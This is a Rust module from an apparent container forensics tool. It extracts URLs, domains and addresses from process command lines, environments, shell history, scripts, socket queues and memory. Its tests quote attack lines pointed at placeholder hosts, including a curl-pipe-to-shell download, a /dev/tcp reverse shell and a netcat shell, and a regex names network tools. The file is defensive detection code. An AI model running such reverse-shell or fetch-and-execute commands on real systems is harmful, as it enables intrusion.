//! Command lines, and the domains and URLs in them, in environments, in lines typed in shells, in scripts that were dropped,
//! in queues, and in memory near the addresses of connections.

use std::collections::{BTreeSet, HashMap};
use std::sync::OnceLock;

use bstr::{BString, ByteSlice};
use regex_automata::meta::{Config, Regex};
use regex_automata::util::syntax;

use super::super::Confidence;
use super::super::facts::{Kind as FileKind, Place};
use super::super::indicators::Kind;
use super::super::indicators::guess::is_name_of_file;
use super::super::indicators::value::{Value, host};
use super::{Hunt, Observable, as_text, observable};
use crate::memory::{Encoding, Matcher, Pattern, SearchOptions};
use crate::model::ids::Pid;

/// Bytes of a script that are read.
const SCRIPT: u64 = 128 << 10;
/// Bytes of memory around an address.
const NEAR: u64 = 512;
/// Hits of addresses in memory that are looked at.
const HITS: u64 = 256;
/// Values from one text.
const VALUES: usize = 64;

pub(super) fn add(hunt: &mut Hunt<'_, '_>) {
    commands(hunt);
    environments(hunt);
    histories(hunt);
    scripts(hunt);
    queues(hunt);
    memory(hunt);
}

fn findings_of(hunt: &Hunt<'_, '_>, pid: Pid) -> BTreeSet<(&'static str, String)> {
    hunt.actors.get(&pid).cloned().unwrap_or_default()
}

/// Adds what a text of a process yields.
fn yields(
    hunt: &mut Hunt<'_, '_>,
    text: &[u8],
    confidence: Confidence,
    from: &str,
    findings: &BTreeSet<(&'static str, String)>,
) {
    for (kind, value, port) in values(text) {
        let direction = (kind == Kind::Address).then_some("outbound");
        hunt.add(Observable {
            port,
            direction,
            findings: findings.clone(),
            ..observable(kind, value, confidence, from.to_owned())
        });
    }
}

fn commands(hunt: &mut Hunt<'_, '_>) {
    let facts = hunt.facts;
    let asked: BTreeSet<BString> =
        facts.init().map(|init| init.row.cmdline.clone().unwrap_or_default()).into_iter().collect();
    for pid in hunt.actors.keys().copied().collect::<Vec<_>>() {
        let Some(process) = facts.process(pid) else { continue };
        let line = process.cmdline().to_owned();
        let from = format!("processes, pid {pid}: command line of {}", process.title());
        let (confidence, findings) = (hunt.confidence(pid), findings_of(hunt, pid));
        yields(hunt, &line, confidence, &from, &findings);
        let (text, not_text) = as_text(&line);
        let imitates = findings.iter().any(|(rule, _)| matches!(*rule, "PROC-001" | "PROC-002"));
        let left_out = if not_text.is_some() {
            not_text
        } else if imitates {
            Some("it imitates the name of another program, which has it rightly".to_owned())
        } else if asked.contains(line.as_bstr()) {
            Some("the command of the container itself".to_owned())
        } else if text.len() < 12 || !text.contains(['/', '.', ':', '=']) {
            Some("a command that is the same in many attacks and elsewhere".to_owned())
        } else {
            None
        };
        hunt.add(Observable { findings, left_out, ..observable(Kind::Command, text, confidence, from) });
    }
}

/// Variables that the first process of the container does not have.
fn environments(hunt: &mut Hunt<'_, '_>) {
    let facts = hunt.facts;
    let usual: Vec<(BString, BString)> =
        facts.init().and_then(|init| init.env()).map(<[_]>::to_vec).unwrap_or_default();
    for pid in hunt.actors.keys().copied().collect::<Vec<_>>() {
        let Some(process) = facts.process(pid) else { continue };
        let own = process.env().unwrap_or_default().iter().filter(|variable| !usual.contains(variable));
        for (key, value) in own.cloned().collect::<Vec<_>>() {
            let from = format!("process_envs, pid {pid}: variable {key}");
            let (confidence, findings) = (hunt.confidence(pid), findings_of(hunt, pid));
            yields(hunt, &value, confidence, &from, &findings);
        }
    }
}

fn histories(hunt: &mut Hunt<'_, '_>) {
    for line in hunt.facts.checkpoint().rows().shell_history() {
        if !hunt.actors.contains_key(&line.pid) {
            continue;
        }
        let from = format!("shell_history, pid {} position {}", line.pid, line.position);
        let (confidence, findings) = (hunt.confidence(line.pid), findings_of(hunt, line.pid));
        yields(hunt, &line.command, confidence, &from, &findings);
    }
}

/// Scripts that findings are about.
fn scripts(hunt: &mut Hunt<'_, '_>) {
    let facts = hunt.facts;
    let mut about: HashMap<BString, BTreeSet<(&'static str, String)>> = HashMap::new();
    for finding in &hunt.findings {
        for path in super::paths_of(finding) {
            about.entry(path).or_default().extend(super::of_finding(finding));
        }
    }
    for (file, kind) in facts.files().all().iter().zip(facts.kinds().all()) {
        let Some(findings) = about.get(&file.path) else { continue };
        let is_text = matches!(kind, FileKind::Script | FileKind::Other);
        if file.place == Place::Deleted || file.file_type != "regular" || !is_text || file.size > SCRIPT {
            continue;
        }
        let text = facts.files().head(file, SCRIPT).into_owned();
        if text.contains(&0) {
            continue;
        }
        let from = format!("contents of {}", file.path);
        yields(hunt, &text, Confidence::Medium, &from, findings);
    }
}

fn queues(hunt: &mut Hunt<'_, '_>) {
    let checkpoint = hunt.facts.checkpoint();
    let holders: HashMap<u64, Vec<Pid>> = hunt.facts.sockets().all().iter().fold(HashMap::new(), |mut all, socket| {
        if let Some(number) = socket.socket {
            all.entry(number).or_default().push(socket.pid);
        }
        all
    });
    for queue in checkpoint.rows().tcp_queues() {
        let holder =
            holders.get(&queue.socket).and_then(|pids| pids.iter().find(|pid| hunt.actors.contains_key(pid))).copied();
        let (Some(pid), Some(text)) = (holder, &queue.text) else { continue };
        let from = format!("tcp_queues, {} queue of socket {}", queue.queue, queue.socket);
        let findings = findings_of(hunt, pid);
        yields(hunt, text, Confidence::Medium, &from, &findings);
    }
}

/// Memory near the addresses that the processes of an attacker are connected to.
fn memory(hunt: &mut Hunt<'_, '_>) {
    let facts = hunt.facts;
    let addresses: Vec<String> = hunt
        .all
        .iter()
        .filter(|one| one.kind == Kind::Address && one.left_out.is_none())
        .map(|one| one.value.clone())
        .take(64)
        .collect();
    let patterns: Vec<Pattern> =
        addresses.iter().filter_map(|text| Pattern::text(text, Encoding::Utf8, false).ok()).collect();
    let Ok(matcher) = Matcher::new(&patterns) else { return };
    let model = facts.model();
    let wanted: Vec<_> = hunt
        .actors
        .keys()
        .filter_map(|pid| Some((model.process(*pid)?, std::iter::once(0..u64::MAX).collect())))
        .collect();
    if patterns.is_empty() || wanted.is_empty() {
        return;
    }
    let options = SearchOptions { most: HITS, ..SearchOptions::default() };
    let found = facts.checkpoint().memory().search_in(&wanted, &matcher, &options).found;
    for hit in found {
        let Some(space) = facts.checkpoint().memory().space_of(hit.pid) else { continue };
        let mut text = Vec::new();
        for (from, len) in [
            (hit.address.saturating_sub(NEAR), NEAR),
            (hit.address, hit.len),
            (hit.address.saturating_add(hit.len), NEAR),
        ] {
            text.extend_from_slice(&space.read(from, len).unwrap_or_default());
        }
        let from = format!("memory of process {} near {:#x}", hit.pid, hit.address);
        let findings = findings_of(hunt, hit.pid);
        yields(hunt, &text, Confidence::Low, &from, &findings);
    }
}

/// The URLs, domains and addresses that a text names as such. A word with dots may be anything: a domain is one only where a
/// port, a user or a client's option says so.
fn values(text: &[u8]) -> Vec<(Kind, String, Option<u16>)> {
    static REGEX: OnceLock<Option<Regex>> = OnceLock::new();
    let make = || {
        let sources = [
            r#"[a-zA-Z][a-zA-Z0-9+.-]{1,20}://[^\s"'<>\\^`{|}\x00-\x1f\x7f-\xff]{4,1000}"#,
            r"/dev/(?:tcp|udp)/[A-Za-z0-9.:-]{1,253}/[0-9]{1,5}",
            r"\b[A-Za-z0-9][A-Za-z0-9.-]{1,250}\.[A-Za-z]{2,24}:[0-9]{2,5}\b",
            r"\b(?:[0-9]{1,3}\.){3}[0-9]{1,3}:[0-9]{2,5}\b",
            r"\b(?:nc|ncat|netcat|ssh|scp|sftp|ftp|telnet|ping|dig|nslookup|host|curl|wget)\s+(?:-[^\s]+\s+(?:[0-9]{1,6}\s+)?)*(?:[A-Za-z0-9_.-]{1,64}@)?(?:(?:[0-9]{1,3}\.){3}[0-9]{1,3}|[A-Za-z0-9][A-Za-z0-9.-]{1,250}\.[A-Za-z]{2,24})(?:[: ][0-9]{2,5})?\b",
        ];
        let syntax = syntax::Config::new().utf8(false).unicode(false);
        Regex::builder().syntax(syntax).configure(Config::new().utf8_empty(false)).build_many(&sources).ok()
    };
    let Some(regex) = REGEX.get_or_init(make) else { return Vec::new() };
    let mut all = Vec::new();
    for found in regex.find_iter(text).take(VALUES) {
        let Some(said) = text.get(found.range()).and_then(|said| said.to_str().ok()) else { continue };
        match found.pattern().as_usize() {
            0 => url(said, &mut all),
            1 => {
                let mut parts = said.rsplitn(3, '/');
                let port = parts.next().and_then(|port| port.parse().ok());
                endpoint(parts.next().unwrap_or_default(), port, &mut all);
            }
            // A line of a program, as in `main.go:12`, looks like a port.
            2 if said.split_once(':').is_some_and(|(host, _)| is_name_of_file(host)) => {}
            2 | 3 => {
                if let Some((host, port)) = said.split_once(':') {
                    endpoint(host, port.parse().ok(), &mut all);
                }
            }
            _ => behind_client(said, &mut all),
        }
    }
    all
}

/// The host behind the name of a client and its options, and the port behind it.
fn behind_client(said: &str, all: &mut Vec<(Kind, String, Option<u16>)>) {
    let (before, last) = said.rsplit_once(char::is_whitespace).unwrap_or(("", said));
    let is_port = last.bytes().all(|byte| byte.is_ascii_digit());
    let host = if is_port { before.rsplit(char::is_whitespace).next().unwrap_or_default() } else { last };
    let host = host.rsplit_once('@').map_or(host, |(_, host)| host);
    let (host, port) = host.split_once(':').unwrap_or((host, if is_port { last } else { "" }));
    if !is_name_of_file(host) {
        endpoint(host, port.parse().ok(), all);
    }
}

fn url(text: &str, all: &mut Vec<(Kind, String, Option<u16>)>) {
    let text = text.trim_end_matches(['.', ',', ';', ':', ')', ']', '!', '*', '\'']);
    // Whoever hunts for the URL needs no user and no password, and nobody else should read them.
    let text = &without_user(text);
    if let Ok(value) = Value::new(Kind::Url, text) {
        let name = host(&value.text).to_owned();
        let key = value.text.split_once("://").map_or("", |(_, rest)| rest).trim_end_matches('/');
        if name.contains('.') {
            // An address without a path or a port is no more than the address.
            if key != name {
                all.push((Kind::Url, value.text, None));
            }
            endpoint(&name, None, all);
        }
    }
}

/// A URL without the user and the password before its host.
fn without_user(url: &str) -> String {
    let Some((scheme, rest)) = url.split_once("://") else { return url.to_owned() };
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let (authority, path) = rest.split_at_checked(end).unwrap_or((rest, ""));
    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    format!("{scheme}://{host}{path}")
}

fn endpoint(name: &str, port: Option<u16>, all: &mut Vec<(Kind, String, Option<u16>)>) {
    let port = port.filter(|&port| port != 0);
    if let Ok(address) = Value::new(Kind::Address, name) {
        if address.kind == Kind::Address {
            all.push((Kind::Address, address.text, port));
        }
    } else if let Ok(domain) = Value::new(Kind::Domain, name) {
        all.push((Kind::Domain, domain.text, None));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_names_urls_domains_and_addresses() {
        let said = |text: &str| {
            let show = |(kind, value, port): (Kind, String, Option<u16>)| match port {
                Some(port) => format!("{} {value}:{port}", kind.as_str()),
                None => format!("{} {value}", kind.as_str()),
            };
            values(text.as_bytes()).into_iter().map(show).collect::<Vec<_>>()
        };
        assert_eq!(said("curl -s http://evil.com/u.sh | sh"), ["url http://evil.com/u.sh", "domain evil.com"]);
        assert_eq!(
            said("-o stratum+tcp://pool.x.example:3333 -u"),
            ["url stratum+tcp://pool.x.example:3333", "domain pool.x.example"]
        );
        assert_eq!(said("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"), ["address 203.0.113.7:4444"]);
        assert_eq!(said("nc 203.0.113.7 4444 -e sh"), ["address 203.0.113.7:4444"]);
        assert_eq!(said("nc -v evil.com 4444"), ["domain evil.com"]);
        assert_eq!(said("connect evil.com:443 now"), ["domain evil.com"]);
        assert_eq!(said("ssh -p 22 -v root@203.0.113.9"), ["address 203.0.113.9"]);
        assert_eq!(
            said("git clone https://bot:pa55@evil.com/x.git"),
            ["url https://evil.com/x.git", "domain evil.com"],
            "no password leaves"
        );
        assert!(said("python3 app.py --config app.conf os.path v1.2.3").is_empty());
        assert!(said("at app.py:12 main.go:345 ssh key.pem VERSION=5.15.0.91 kernel 5.15.0.91").is_empty());
        assert_eq!(said("static.evil.sh:8080"), ["domain static.evil.sh"]);
    }
}
